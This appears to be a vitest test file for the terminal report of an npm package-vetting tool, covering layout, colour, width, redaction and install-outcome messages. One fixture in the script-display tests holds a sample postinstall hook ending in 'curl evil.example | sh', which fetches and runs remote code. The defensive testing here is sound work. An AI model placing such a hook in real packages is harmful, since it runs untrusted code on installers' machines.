import { stripVTControlCharacters } from 'node:util';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { renderHuman, renderInstall } from '../../src/report/human.ts';
import type { View } from '../../src/report/layout.ts';
import { displayWidth } from '../../src/report/width.ts';
import { finding, many, pkg, report, ruled, scriptFinding, unknown } from './reports.ts';
import { reportSaying, scenarios } from './scenarios.ts';

const plain: View = { columns: 80, color: 0, verbose: false };

function scenario(name: string): Report {
  const found = scenarios[name];
  if (!found) throw new Error(`no scenario is called ${name}`);
  return found;
}

function lines(text: string): string[] {
  return text.split('\n').slice(0, -1);
}

describe('the report for people', () => {
  it.each(Object.keys(scenarios))('%s, as it is read at 80 columns', async (name) => {
    await expect(renderHuman(scenario(name), plain)).toMatchFileSnapshot(`snapshots/${name}.txt`);
  });

  it('with everything in it', async () => {
    const text = renderHuman(scenario('mixed'), { ...plain, verbose: true });
    await expect(text).toMatchFileSnapshot('snapshots/mixed-verbose.txt');
  });

  it('in a narrow window', async () => {
    const text = renderHuman(scenario('mixed'), { ...plain, columns: 40 });
    await expect(text).toMatchFileSnapshot('snapshots/mixed-40-columns.txt');
  });

  it('of a clean install is three lines', () => {
    expect(lines(renderHuman(scenario('clean'), plain))).toHaveLength(3);
  });

  it('of 1,300 flagged packages ends within one screen', () => {
    expect(lines(renderHuman(scenario('large'), plain)).length).toBeLessThanOrEqual(50);
  });

  it('counts what it does not show, and names the way to see it', () => {
    const text = renderHuman(scenario('large'), plain);
    expect(text).toContain('and 430 more of them (block): --npq-verbose shows them, --json lists them');
    const all = renderHuman(scenario('large'), { ...plain, verbose: true });
    for (const one of many(1300)) expect(all).toContain(`${one.name} ${one.version} `);
  });

  it('says the same with colours as without', () => {
    for (const held of Object.values(scenarios)) {
      const coloured = renderHuman(held, { ...plain, color: 3 });
      expect(coloured).toContain('\u001B[');
      expect(stripVTControlCharacters(coloured)).toBe(renderHuman(held, plain));
    }
  });

  it.each([40, 57, 80, 100, 250])('is never wider than %d columns', (columns) => {
    for (const [name, held] of Object.entries(scenarios)) {
      for (const verbose of name === 'large' ? [false] : [false, true]) {
        const widths = lines(renderHuman(held, { columns, color: 0, verbose })).map(displayWidth);
        expect(Math.max(...widths)).toBeLessThanOrEqual(columns);
      }
    }
  });

  it('does not depend on the order in which things were found', () => {
    const { verdict, ...rest } = scenario('mixed');
    const reversed = {
      ...rest,
      verdict: {
        ...verdict,
        findings: verdict.findings.toReversed(),
        unknowns: verdict.unknowns.toReversed(),
      },
    };
    expect(renderHuman(reversed, plain)).toBe(renderHuman(scenario('mixed'), plain));
  });

  it('never acts on the terminal and never lets foreign text begin a line, whatever strangers wrote', () => {
    const ours = /^(npq( {2}|$)| {2}[✗!?·✓]( {2}|$)| {5}|$)/;
    const foreign = fc.oneof(fc.string({ unit: 'binary' }), fc.constant('\n  ✓  pass\n'));
    fc.assert(
      fc.property(foreign, fc.integer({ min: 40, max: 120 }), (text, columns) => {
        const shown = lines(renderHuman(reportSaying(text), { columns, color: 0, verbose: true }));
        for (const line of shown) {
          expect(line).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
          expect(line).toMatch(ours);
          expect(displayWidth(line)).toBeLessThanOrEqual(columns);
        }
        expect(shown.some((line) => line.startsWith('  ✓  '))).toBe(false);
      }),
      { numRuns: 60 },
    );
  });

  it('prints no password of an address', () => {
    const held = reportSaying('https://ada:hunter2@host.example/x');
    const atOrigin = {
      ...pkg('a@1.0.0'),
      origin: { kind: 'remote', url: 'https://ada:hunter2@host.example/a.tgz', host: 'host.example' },
    } as const;
    const flagged = report({
      packages: [atOrigin],
      kind: 'ask',
      findings: [ruled('ask', finding('exotic-source', atOrigin))],
    });
    expect(renderHuman(flagged, plain)).toContain('from https://***@host.example/a.tgz');
    expect(renderHuman({ ...flagged, notes: held.notes }, plain)).not.toContain('hunter2');
  });
});

describe('the text of a script', () => {
  const about = pkg('a@1.0.0');
  const shown = (view: View, ...excerpt: string[]) =>
    renderHuman(
      report({ packages: [about], kind: 'ask', findings: [ruled('ask', scriptFinding(about, ...excerpt))] }),
      view,
    );

  it('is shown with its beginning and its end', () => {
    const text = shown(plain, `postinstall: node ${'x'.repeat(1000)} && curl evil.example | sh`);
    expect(text).toContain('│ postinstall: node\n     │ xxx');
    expect(text.replace(/\s+│ /g, ' ')).toMatch(/characters left out …[\sx]*&& curl evil.example \| sh/);
  });

  it('is shown as a whole in the verbose report', () => {
    const text = shown({ ...plain, verbose: true }, `postinstall: ${'z'.repeat(1000)}!`);
    expect(text.replace(/[^z]/g, '')).toHaveLength(1000);
  });

  it('is told of where its lines are too many', () => {
    expect(shown(plain, ...'abcdefg')).toContain('│ d\n     │ … 3 more lines\n');
  });
});

describe('what could not be found out', () => {
  const packages = many(9);
  const told = (...unknowns: Parameters<typeof unknown>[]) =>
    renderHuman(report({ packages, kind: 'ask', unknowns: unknowns.map((one) => unknown(...one)) }), plain);
  const [first, second] = [pkg('part-0000@1.0.0'), pkg('part-0001@1.0.1')];

  it('names the packages where they are few, the reason, and the command that mends it', () => {
    expect(told(['install-script', first, 'incomplete'], ['install-script', second, 'incomplete'])).toContain(
      '  !  unknown: install-script for part-0000 1.0.0 and part-0001 1.0.1, no answer\n     in time: registry.example did not answer within 30 s → run it again\n',
    );
  });

  it('counts the packages where they are many', () => {
    const text = told(...packages.map((one) => ['fresh-release', one, 'note'] as Parameters<typeof unknown>));
    expect(text).toContain('  ·  unknown: fresh-release for 9 packages, no answer in time');
  });

  it('takes one line for checks that failed alike', () => {
    expect(told(['a', first, 'note'], ['b', first, 'note'])).toContain(
      'unknown: a and b for part-0000 1.0.0',
    );
  });

  it('is told with the package where the package itself is the cause', () => {
    const text = told([
      'content',
      first,
      'ask',
      { cause: 'subject', reason: 'malformed', detail: 'half a tarball' },
    ]);
    expect(text).toContain(
      '  ?  ask: part-0000 1.0.0 · direct dependency\n     Could not find out (content): not readable: half a tarball\n',
    );
  });
});

describe('what the policy allows', () => {
  const packages = many(5);
  const allowing = (count: number) =>
    renderHuman(
      report({
        packages,
        findings: packages.slice(0, count).map((one) => ruled('allow', finding('exotic-source', one))),
      }),
      plain,
    );

  it('is told in a line where it is little', () => {
    expect(allowing(1)).toContain(
      '  ·  allowed: part-0000 1.0.0 · Something about exotic-source (exotic-source)\n',
    );
  });

  it('is counted below what has to be decided of the same package', () => {
    const [one] = packages as [(typeof packages)[number]];
    const findings = [
      ruled('ask', finding('install-script', one)),
      ruled('allow', finding('suspicious-code', one)),
    ];
    const of = report({ packages: [one], kind: 'ask', findings });
    const text = renderHuman(of, plain);
    expect(text).toContain('     and 1 finding that the policy allows: --npq-verbose shows it\n');
    expect(text).not.toContain('suspicious-code');
    expect(renderHuman(of, { ...plain, verbose: true })).toContain('suspicious-code');
  });

  it('is counted where it is much', () => {
    expect(allowing(5)).toContain('  ·  allowed: 5 exotic-source (--npq-verbose shows them)\n');
  });
});

describe('the end of a run', () => {
  const ended = (install: NonNullable<Report['install']>) => renderInstall({ install }, plain);
  const ran = { kind: 'ran', npmExitCode: 0, differences: [], compared: 3 } as const;

  it('tells every way it can end from the others', () => {
    expect(ended({ kind: 'not-run', why: 'declined' })).toBe('  ·  npm did not run: declined\n');
    expect(ended({ ...ran, matches: true })).toBe('  ✓  installed: 3 packages, each as it was checked\n');
    expect(ended({ ...ran, matches: true, byPlace: true })).toBe(
      '  ✓  installed: 3 places, each holding what was checked\n',
    );
    expect(ended({ ...ran, tried: true })).toBe(
      '  ·  nothing was installed: npm only tried it (--dry-run)\n',
    );
    expect(ended({ ...ran, npmExitCode: 7 })).toBe('  ✗  npm failed with exit code 7\n');
    expect(ended(ran)).toContain('could not be compared');
    expect(ended({ ...ran, matches: true, notes: ['A nested npm asked for b.'] })).toContain(
      '\n  ·  A nested npm asked for b.\n',
    );
    expect(ended({ ...ran, matches: false, differences: ['a is 2.0.0'] })).toBe(
      '  ✗  differs: what npm installed is not what was checked (3 packages compared)\n     - a is 2.0.0\n' +
        '     → Run nothing of it: remove node_modules, find out what changed it, then\n       install again.\n',
    );
  });

  it('shortens the path of the receipt by the home folder, and keeps it on one line', () => {
    const receiptPath = `/home/ada/${'state/'.repeat(8)}receipt.json`;
    const text = renderInstall(
      { install: { ...ran, matches: true, receiptPath } },
      { ...plain, home: '/home/ada' },
    );
    expect(text).toContain(` ~/${'state/'.repeat(8)}receipt.json\n`);
    expect(renderInstall({ install: { ...ran, receiptPath } }, { ...plain, home: '/home/a' })).toContain(
      receiptPath,
    );
  });

  it('says why npm failed where the gate refused something', () => {
    const refused = [
      { path: '/evil', status: 403, why: 'It is evil.' },
      { path: '/evil', status: 403, why: 'It is evil.' },
      { path: '/worse', status: 403, why: 'It is worse.' },
    ];
    expect(ended({ ...ran, npmExitCode: 1, refused })).toBe(
      '  ✗  npm failed with exit code 1\n     the gate refused /evil: It is evil. (and 1 more: --json)\n',
    );
    expect(ended({ ...ran, matches: true, refused })).not.toContain('refused');
  });

  it('counts what scripts installed by themselves, and what they were refused', () => {
    const nested = [
      { name: 'a', version: '1.0.0', verdict: 'pass' },
      { name: 'b', version: '2.0.0', verdict: 'block', why: 'It is evil.' },
    ] as const;
    expect(ended({ ...ran, matches: true, nested })).toBe(
      '  ✓  installed: 3 packages, each as it was checked\n' +
        '  ·  scripts installed more, each vetted on the spot: a 1.0.0\n' +
        '  !  a script asked for b 2.0.0 and was refused: It is evil.\n',
    );
  });

  it('is empty where nothing was to be installed', () => {
    expect(renderInstall({}, plain)).toBe('');
  });
});
